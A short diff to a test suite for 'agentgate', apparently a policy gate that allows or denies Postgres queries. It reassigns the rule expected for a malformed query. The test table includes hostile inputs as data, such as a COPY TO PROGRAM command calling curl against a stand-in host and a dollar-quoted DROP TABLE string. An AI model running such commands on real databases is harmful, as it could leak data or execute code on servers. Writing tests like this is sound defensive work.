@@ -76,7 +76,7 @@ describe('agentgate policy check', () => {
     ['SELECT $$; DROP TABLE orders; $$', 'allow', 'reads'],
     ["COPY orders TO PROGRAM 'curl evil'", 'deny', '(default)'],
     ['DO $$ BEGIN EXECUTE 1; END $$', 'deny', '(default)'],
-    ['SELEC oops', 'deny', '(default)'],
+    ['SELEC oops', 'deny', 'no-secrets-table'], // unreadable: may touch secrets
   ])('postgres: %s -> %s by %s', async (query, decision, rule) => {
     const out = JSON.parse((await check(query)).stdout);
     expect({ decision: out.decision, rule: out.rule }).toEqual({ decision, rule });
